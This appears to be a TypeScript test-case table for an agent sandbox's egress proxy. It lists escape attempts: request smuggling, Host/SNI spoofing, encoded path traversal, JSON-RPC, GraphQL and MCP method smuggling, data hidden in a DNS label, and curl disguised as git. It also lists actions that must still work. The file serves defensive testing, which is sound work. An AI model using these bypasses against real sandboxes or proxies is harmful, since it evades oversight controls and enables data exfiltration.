// Attempts through what is allowed, and what has to work.
import type { Row } from './escape-attempts.ts'

export const REQUESTS: Row[] = [
  [
    'L01',
    'POST where only reading is allowed',
    'proxy: requests',
    `canary(ask('api.example.test:443', get(method='POST', extra='Content-Length: 0\\r\\n')))`,
  ],
  ['L02', 'DELETE', 'proxy: requests', `canary(ask('api.example.test:443', get(method='DELETE')))`],
  [
    'L03',
    'a made-up method',
    'proxy: requests',
    `canary(ask('api.example.test:443', get(method='PROPFIND')))`,
  ],
  [
    'L04',
    'the Host of another service',
    'proxy: requests',
    `canary(ask('api.example.test:443', get(host='evil.example.test')))`,
  ],
  [
    'L05',
    'the TLS name of another service',
    'proxy: requests',
    `canary(ask('api.example.test:443', get(), sni='evil.example.test'))`,
  ],
  [
    'L06',
    'two Host headers',
    'proxy: requests',
    `canary(ask('api.example.test:443', get(extra='Host: evil.example.test\\r\\n')))`,
  ],
  [
    'L07',
    'no Host header',
    'proxy: requests',
    `canary(ask('api.example.test:443', b'GET / HTTP/1.0\\r\\n\\r\\n'))`,
  ],
  [
    'L08',
    'a path outside the allowed ones',
    'proxy: requests',
    `canary(ask('paths.example.test:443', get('/admin', host='paths.example.test')))`,
  ],
  [
    'L09',
    'the same by ..',
    'proxy: requests',
    `canary(ask('paths.example.test:443', get('/repos/../admin', host='paths.example.test')))`,
  ],
  [
    'L10',
    'the same by an encoded ..',
    'proxy: requests',
    `canary(ask('paths.example.test:443', get('/repos/%2e%2e/admin', host='paths.example.test')))`,
  ],
  [
    'L11',
    'the same by an encoded slash',
    'proxy: requests',
    `canary(ask('paths.example.test:443', get('/repos/..%2fadmin', host='paths.example.test')))`,
  ],
  [
    'L12',
    'the same by ..;',
    'proxy: requests',
    `canary(ask('paths.example.test:443', get('/repos/..;x/admin', host='paths.example.test')))`,
  ],
  [
    'L13',
    'an absolute target of another host',
    'proxy: requests',
    `canary(ask('paths.example.test:443', get('http://evil.example.test/admin', host='paths.example.test')))`,
  ],
  [
    'L14',
    'a denied query',
    'proxy: requests',
    `canary(ask('paths.example.test:443', get('/repos/x?%66orce=1', host='paths.example.test')))`,
  ],
  [
    'L15',
    'HTTP/2 by its preface',
    'proxy: requests',
    `canary(ask('api.example.test:443', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))`,
  ],
  [
    'L16',
    'HTTP/2 by ALPN alone',
    'proxy: requests',
    `canary(ask('api.example.test:443', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', alpn=['h2']))`,
  ],
  [
    'L17',
    'a websocket',
    'proxy: requests',
    `canary(ask('api.example.test:443', get(extra='Upgrade: websocket\\r\\n').replace(b'Connection: close', b'Connection: Upgrade')))`,
  ],
  [
    'L18',
    'CONNECT inside the tunnel',
    'proxy: requests',
    `canary(ask('api.example.test:443', b'CONNECT evil.example.test:443 HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n'))`,
  ],
  [
    'L19',
    'smuggling: both lengths',
    'proxy: requests',
    `canary(ask('api.example.test:443', b'GET / HTTP/1.1\\r\\nHost: api.example.test\\r\\nContent-Length: 40\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /x HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n'))`,
  ],
  [
    'L20',
    'a POST behind an allowed GET',
    'proxy: requests',
    `s = tls('api.example.test:443'); s.sendall(get().replace(b'Connection: close\\r\\n', b'') + get('/second', 'POST')); s.settimeout(2); d = b''
try:
    while True:
        p = s.recv(4096)
        if not p: break
        d += p
except OSError: pass
print(d[-200:]); reached(b'CANARY POST /second' in d)`,
  ],
  [
    'L21',
    'plain http inside an inspected tunnel',
    'proxy: requests',
    `s = tunnel('api.example.test:443'); s.sendall(get(method='POST', extra='Content-Length: 0\\r\\n')); canary(drain(s))`,
  ],
  [
    'L22',
    'bytes that are no HTTP',
    'proxy: requests',
    `canary(ask('api.example.test:443', b'\\x00\\x01\\x02 hello\\r\\n\\r\\n'))`,
  ],
  [
    'L23',
    'another method by a header (a server may listen to it; the policy cannot see it)',
    'policy',
    `canary(ask('api.example.test:443', get(extra='X-HTTP-Method-Override: DELETE\\r\\n')))`,
    'allowed',
  ],
  [
    'L24',
    'data in the label of a name under an allowed wildcard',
    'policy',
    `s = tls('c2VjcmV0.wild.example.test:443'); s.sendall(get(host='c2VjcmV0.wild.example.test')); canary(drain(s))`,
    'allowed',
  ],
  [
    'L25',
    'a JSON-RPC call that is not listed',
    'proxy: requests',
    `canary(post('rpc.example.test', '{"jsonrpc":"2.0","id":1,"method":"write"}'))`,
  ],
  [
    'L26',
    'the same, its name twice',
    'proxy: requests',
    `canary(post('rpc.example.test', '{"jsonrpc":"2.0","id":1,"method":"read","m\\\\u0065thod":"write"}'))`,
  ],
  [
    'L27',
    'the same, its name in another case beside an allowed one',
    'proxy: requests',
    `canary(post('rpc.example.test', '{"jsonrpc":"2.0","id":1,"method":"read","Method":"write"}'))`,
  ],
  [
    'L28',
    'the same in a batch',
    'proxy: requests',
    `canary(post('rpc.example.test', '[{"jsonrpc":"2.0","id":1,"method":"read"},{"jsonrpc":"2.0","id":2,"method":"write"}]'))`,
  ],
  [
    'L29',
    'the same, compressed',
    'proxy: requests',
    `import gzip; b = gzip.compress(b'{"jsonrpc":"2.0","id":1,"method":"write"}'); canary(ask('rpc.example.test:443', f'POST / HTTP/1.1\\r\\nHost: rpc.example.test\\r\\nContent-Type: application/json\\r\\nContent-Encoding: gzip\\r\\nContent-Length: {len(b)}\\r\\nConnection: close\\r\\n\\r\\n'.encode() + b))`,
  ],
  [
    'L30',
    'a GraphQL mutation under the name of a query',
    'proxy: requests',
    `canary(post('graphql.example.test', '{"query":"query a { a } mutation b { b }","operationName":"b"}'))`,
  ],
  [
    'L31',
    'a GraphQL mutation in the target beside a query in the body',
    'proxy: requests',
    `canary(post('graphql.example.test', '{"query":"{ a }"}', path='/?query=mutation%7Bb%7D'))`,
  ],
  [
    'L32',
    'an MCP tool that is not listed',
    'proxy: requests',
    `canary(post('mcp.example.test', '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"write_file"}}'))`,
  ],
  [
    'L33',
    'a message on a WebSocket that may only listen',
    'proxy: requests',
    `canary(message('socket.example.test', b'hello'))`,
  ],
]

export const BINARIES: Row[] = [
  ['B01', "git's host by Python", 'proxy: binaries', `connected('git.example.test:443')`],
  [
    'B02',
    "git's host by curl",
    'proxy: binaries',
    `canary(run('/usr/bin/curl', '-ksS', '-m', '4', '-x', f'http://127.0.0.1:{PROXY}', 'https://git.example.test/').stdout)`,
  ],
  [
    'B03',
    'a copy of curl that is called git',
    'proxy: binaries',
    `import shutil; os.makedirs('bin3', exist_ok=True); shutil.copy('/usr/bin/curl', 'bin3/git'); canary(run(WS + '/bin3/git', '-ksS', '-m', '4', '-x', f'http://127.0.0.1:{PROXY}', 'https://git.example.test/').stdout)`,
  ],
  [
    'B04',
    'curl with the argv of git',
    'proxy: binaries',
    `canary(run('/usr/bin/git', '-ksS', '-m', '4', '-x', f'http://127.0.0.1:{PROXY}', 'https://git.example.test/', executable='/usr/bin/curl').stdout)`,
  ],
  [
    'B05',
    'curl through a link called git',
    'proxy: binaries',
    `os.makedirs('bin5', exist_ok=True); os.path.lexists('bin5/git') or os.symlink('/usr/bin/curl', 'bin5/git'); canary(run(WS + '/bin5/git', '-ksS', '-m', '4', '-x', f'http://127.0.0.1:{PROXY}', 'https://git.example.test/').stdout)`,
  ],
  [
    'B06',
    'a socket that Python opened, used by a child of git',
    'proxy: binaries',
    `s = socket.create_connection(('127.0.0.1', PROXY), 3); os.set_inheritable(s.fileno(), True); run('/usr/bin/git', '-c', f'alias.x=!printf "CONNECT git.example.test:443 HTTP/1.1\\\\r\\\\nHost: git.example.test\\\\r\\\\n\\\\r\\\\n" >&{s.fileno()}', 'x', pass_fds=(s.fileno(),)); d = s.recv(400); print(d); reached(b' 200 ' in d)`,
  ],
  [
    'B07',
    'a child of git (an ancestor counts, as in OpenShell)',
    'policy',
    `canary(run('/usr/bin/git', '-c', f'alias.x=!curl -ksS -m 4 -x http://127.0.0.1:{PROXY} https://git.example.test/', 'x').stdout)`,
    'allowed',
  ],
]

export const MUST_WORK: Row[] = [
  ['W01', 'write in the workspace', 'policy', `write(WS + '/w1')`, 'allowed'],
  [
    'W02',
    'write in /tmp',
    'policy',
    `write('/tmp/agui-escape-own'); os.remove('/tmp/agui-escape-own')`,
    'allowed',
  ],
  [
    'W03',
    'run programs of /usr',
    'policy',
    `reached(run('/usr/bin/git', '--version').returncode == 0)`,
    'allowed',
  ],
  [
    'W04',
    'a GET on an inspected endpoint',
    'policy',
    `canary(ask('api.example.test:443', get('/zen')))`,
    'allowed',
  ],
  [
    'W05',
    'the same by curl, with the certificates of this run',
    'policy',
    `canary(run('/usr/bin/curl', '-sS', '-m', '4', '-x', f'http://127.0.0.1:{PROXY}', 'https://api.example.test/zen').stdout)`,
    'allowed',
  ],
  [
    'W06',
    'an allowed path',
    'policy',
    `canary(ask('paths.example.test:443', get('/repos/a/b', host='paths.example.test')))`,
    'allowed',
  ],
  [
    'W07',
    'a connection that is not inspected',
    'policy',
    `s = tls('l4.example.test:443'); s.sendall(get(method='POST', host='l4.example.test', extra='Content-Length: 0\\r\\n')); canary(drain(s))`,
    'allowed',
  ],
  [
    'W08',
    'plain http where it is allowed',
    'policy',
    `canary(px(b'GET http://plain.example.test/ HTTP/1.1\\r\\nHost: plain.example.test\\r\\nConnection: close\\r\\n\\r\\n'))`,
    'allowed',
  ],
  [
    'W09',
    'a server of its own on loopback',
    'policy',
    `s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname()); reached()`,
    'allowed',
  ],
  [
    'W10',
    '/dev/null, process substitution, pipes',
    'policy',
    `reached(run('/bin/bash', '-c', 'cat <(echo a) > /dev/null && echo b | grep -q b').returncode == 0)`,
    'allowed',
  ],
  [
    'W11',
    'POST on a connection of an L4 rule below a wildcard',
    'policy',
    `s = tls('public.wild.example.test:443'); s.sendall(get(method='POST', host='public.wild.example.test', extra='Content-Length: 0\\r\\n')); canary(drain(s))`,
    'allowed',
  ],
  [
    'W12',
    'a JSON-RPC call that is listed',
    'policy',
    `canary(post('rpc.example.test', '{"jsonrpc":"2.0","id":1,"method":"read"}'))`,
    'allowed',
  ],
  [
    'W13',
    'an MCP tool that is listed',
    'policy',
    `canary(post('mcp.example.test', '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file"}}'))`,
    'allowed',
  ],
]
